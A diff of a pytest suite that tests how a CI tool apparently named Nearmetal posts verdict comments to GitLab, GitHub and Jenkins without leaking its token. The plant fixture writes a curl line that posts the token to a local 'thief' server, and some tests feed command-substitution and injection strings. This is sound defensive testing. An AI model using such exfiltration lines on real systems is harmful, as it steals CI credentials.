-    done = comment(vendor, tmp_path, of_a_comment(forge))
+def verdict(workspace: Path, text: str) -> None:
+    (workspace / "campaign").mkdir(parents=True)
+    (workspace / "campaign" / "gate.md").write_text(text)
+
+
+@needs_curl
+@pytest.mark.parametrize("vendor", VENDORS)
+@pytest.mark.parametrize("markdown", ['| tcp | +12 % | "`$(id)`" & Größe @file |\n', None])
+def test_the_comment_is_the_markdown_and_never_shows_the_token(tmp_path, forge, vendor, markdown):
+    if markdown:
+        verdict(tmp_path, markdown)
+    done = comment(vendor, tmp_path, forge)
     assert (done.returncode, "secret" in done.stdout) == (0, False), done.stdout
     ((path, headers, text),) = forge.posts
-    assert path == "/api/v4/projects/5/merge_requests/7/notes"
-    if vendor == "gitlab":
-        token, body = headers["PRIVATE-TOKEN"], urllib.parse.parse_qs(text)["body"][0]
-    else:
-        token, body = headers["Authorization"].removeprefix("Bearer "), json.loads(text)["body"]
-    assert token == "secret"
-    assert body == verdict if verdict else "https://the/log" in body
+    place = {"github": "/repos/o/r/issues/7/comments"}
+    assert path == place.get(vendor, "/api/v4/projects/5/merge_requests/7/notes")
+    assert headers["Authorization"] == "Bearer secret"
+    body = json.loads(text)["body"]
+    assert body.startswith(markdown or "Nearmetal reached no verdict")
+    assert "https://the/log" in body
+
+
+@needs_curl
+def test_a_long_verdict_is_cut_to_what_a_forge_takes(tmp_path, forge):
+    verdict(tmp_path, "Größe" * 20000)
+    assert comment("jenkins", tmp_path, forge).returncode == 0
+    body = json.loads(forge.posts[0][2])["body"]
+    assert len(body) > 40000 and len(body.encode()) < 65536
+    assert "https://the/log" in body
+
+
+@needs_curl
+def test_gitlabs_comment_takes_the_script_from_the_target_branch(tmp_path, forge):
+    verdict(tmp_path, "clean")
+    (tmp_path / "ci").mkdir()
+    (tmp_path / "ci" / "pipeline.sh").write_text("touch changed\n")
+    assert comment("gitlab", tmp_path, forge).returncode == 0
+    ((address, headers),) = forge.gets
+    assert urlsplit(address).path == "/api/v4/projects/5/repository/files/ci%2Fpipeline.sh/raw"
+    assert parse_qs(urlsplit(address).query) == {"ref": ["release/1.0&x"]}
+    assert headers["PRIVATE-TOKEN"] == "secret"
+    assert not (tmp_path / "changed").exists()
 
 
 def plant(
-    home: Path, workspace: Path, thief, programs=("curl", "python3", "cat", "id", "mktemp")
+    home: Path, workspace: Path, thief, programs=("curl", "python3", "cat", "id", "mktemp", "bash")
 ) -> dict:
-    """What a change's code can leave behind: files in its user's home and workspace, and variables of the shell."""
+    """What a change's code can leave behind: files in home and workspace, and variables."""
     url = f"http://127.0.0.1:{thief.server_port}"
     steal = f'/usr/bin/curl -q -s --data "stolen=$NEARMETAL_TOKEN$(cat)" {url}/program\n'
     files = {
@@ -536,12 +612,11 @@ def plant(
     }
 
 
-@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
+@needs_curl
 @pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
 def test_what_a_change_left_behind_takes_no_part_in_the_comment(tmp_path, forge, thief, vendor):
     home, workspace = tmp_path / "home", tmp_path / "workspace"
-    (workspace / "campaign").mkdir(parents=True)
-    (workspace / "campaign" / "gate.md").write_text("clean")
+    verdict(workspace, "clean")
     (workspace / "campaign" / "account").write_text("somebody@elsewhere\n")
     planted = plant(home, workspace, thief)
     # The plant bites where nobody takes care.
@@ -552,87 +627,68 @@ def test_what_a_change_left_behind_takes_no_part_in_the_comment(tmp_path, forge,
     )
     assert thief.posts and not forge.posts
     thief.posts.clear()
-    done = comment(vendor, workspace, {**of_a_comment(forge), **planted})
+    done = comment(vendor, workspace, forge, **planted)
     assert done.returncode == 0, done.stdout
-    assert (len(forge.posts), thief.posts) == (1, [])
+    assert (len(forge.posts), thief.posts, thief.gets) == (1, [], [])
     assert "secret" not in done.stdout
 
 
-@pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")
-@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
-def test_the_process_that_calls_the_forge_shows_no_token(tmp_path, forge, vendor):
-    """Of the shell itself that does not hold: hence a runner of its own, which the next tests ask for."""
-    (tmp_path / "campaign").mkdir()
-    (tmp_path / "campaign" / "gate.md").write_text("clean")
-    done = comment(vendor, tmp_path, {**of_a_comment(forge), "LD_LIBRARY_PATH": str(tmp_path)})
+@needs_curl
+@pytest.mark.parametrize("vendor, calls", [("gitlab", 2), ("jenkins", 1)])
+def test_the_processes_that_call_the_forge_show_no_token(tmp_path, forge, vendor, calls):
+    """The shell itself shows it: hence a runner of its own, which the next tests ask for."""
+    verdict(tmp_path, "clean")
+    done = comment(vendor, tmp_path, forge, LD_LIBRARY_PATH=str(tmp_path))
     assert done.returncode == 0, done.stdout
-    [(line, environment)] = forge.callers
-    assert b"secret" not in line and b"secret" not in environment
-    names = {variable.partition(b"=")[0] for variable in environment.split(b"\0") if variable}
-    assert names == {b"HOME", b"PATH", b"https_proxy", b"no_proxy"}
+    assert len(forge.callers) == calls
+    for line, environment in forge.callers:
+        assert b"secret" not in line and b"secret" not in environment
+        names = {variable.partition(b"=")[0] for variable in environment.split(b"\0") if variable}
+        assert names <= {b"HOME", b"PATH", b"https_proxy", b"no_proxy"}
 
 
-@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
-def test_the_user_that_ran_the_change_does_not_comment(tmp_path, forge, vendor):
-    (tmp_path / "campaign").mkdir()
-    subprocess.run(
-        ["bash"],
-        input=next(
-            line
-            for line in scripts()[
-                f"{vendor} Install" if vendor == "jenkins" else "gitlab .campaign"
-            ].splitlines()
-            if "campaign/account" in line
-        ),
-        text=True,
-        cwd=tmp_path,
-        check=True,
-    )
-    done = comment(vendor, tmp_path, of_a_comment(forge))
-    assert done.returncode == 1 and "another" in done.stdout and "nearmetal-comment" in done.stdout
+@pytest.mark.parametrize("token", ["", 'x"\nurl = "http://thief/'])
+def test_a_comment_without_a_proper_token_is_refused(tmp_path, forge, token):
+    verdict(tmp_path, "clean")
+    done = comment("jenkins", tmp_path, forge, NEARMETAL_TOKEN=token)
+    assert done.returncode == 1
+    assert "NEARMETAL_TOKEN" in done.stdout
     assert forge.posts == []
 
 
-@pytest.mark.parametrize("vendor", ["gitlab", "jenkins", "github"])
-@pytest.mark.parametrize("link", ["campaign", "campaign/gate.md"])
+@pytest.mark.parametrize("vendor", VENDORS)
+def test_the_user_that_ran_the_change_does_not_comment(tmp_path, forge, vendor):
+    site = Site(tmp_path)
+    assert site.step("install", NEARMETAL_SYSTEM="").returncode == 3
+    (tmp_path / "campaign" / "gate.md").write_text("clean")
+    done = comment(vendor, tmp_path, forge)
+    assert done.returncode == 1
+    assert "another" in done.stdout and "nearmetal-comment" in done.stdout
+    assert forge.posts == []
+
+
+@pytest.mark.parametrize("vendor", VENDORS)
+@pytest.mark.parametrize("link", ["campaign", "campaign/gate.md", "campaign/account"])
 def test_a_link_instead_of_the_verdict_is_not_read(tmp_path, forge, vendor, link):
-    (tmp_path / "private").mkdir()
-    (tmp_path / "private" / "gate.md").write_text("of the runner's user")
+    verdict(tmp_path / "private", "of the runner's user")
+    (tmp_path / "private" / "campaign" / "account").write_text("somebody@elsewhere\n")
     if link == "campaign":
-        (tmp_path / link).symlink_to("private")
+        (tmp_path / link).symlink_to("private/campaign")
     else:
         (tmp_path / "campaign").mkdir()
-        (tmp_path / link).symlink_to(tmp_path / "private" / "gate.md")
-    if vendor == "github":
-        done = subprocess.run(
-            ["bash", "-eo", "pipefail"],
-            input=github_steps("comment")["Comment on the pull request"],
-            text=True,
-            cwd=tmp_path,
-            env={"PATH": os.environ["PATH"], "RUN": "https://the/log"},
-            stdout=subprocess.PIPE,
-            stderr=subprocess.STDOUT,
-        )
-        assert not (tmp_path / "comment.md").exists()
-    else:
-        done = comment(vendor, tmp_path, of_a_comment(forge))
+        (tmp_path / link).symlink_to(tmp_path / "private" / link)
+    done = comment(vendor, tmp_path, forge)
     assert done.returncode == 1 and "link" in done.stdout
     assert forge.posts == []
-    assert (tmp_path / "private" / "gate.md").exists()
+    assert (tmp_path / "private" / "campaign" / "gate.md").exists()
 
 
-def test_the_token_is_only_where_no_code_of_a_change_ran():
-    document = yaml.load(GITLAB.read_text(), GitLabLoader)
-    jobs = expanded()
-    runs_changes = {tag for name in ("nightly", "change") for tag in jobs[name]["tags"]}
-    assert not runs_changes & set(document["comment"]["tags"]) and document["comment"]["tags"]
-    assert document["comment"]["variables"]["GIT_STRATEGY"] == "none"
-    github = yaml.safe_load(GITHUB.read_text())["jobs"]
-    assert github["comment"]["runs-on"] == "ubuntu-latest"
-    assert "write" not in github["campaign"]["permissions"].values()
-    assert not [step for step in github["comment"]["steps"] if "checkout" in step.get("uses", "")]
-    jenkins = re.sub(r"^\s*//.*", "", JENKINS.read_text(), flags=re.MULTILINE)
-    before, node, after = jenkins.partition("node('nearmetal-comment') {")
-    assert node and "withCredentials" in after
-    assert "withCredentials" not in before and "NEARMETAL_TOKEN" not in before
-    assert re.findall(r"agent \{ label '(.*?)' \}", jenkins) == ["nearmetal"]
+@needs_curl
+def test_a_forge_that_refuses_is_named(tmp_path, forge):
+    verdict(tmp_path, "clean")
+    port = forge.server_port
+    forge.shutdown()
+    forge.server_close()
+    done = comment("jenkins", tmp_path, forge)
+    assert done.returncode == 1
+    assert f"127.0.0.1:{port}" in done.stdout
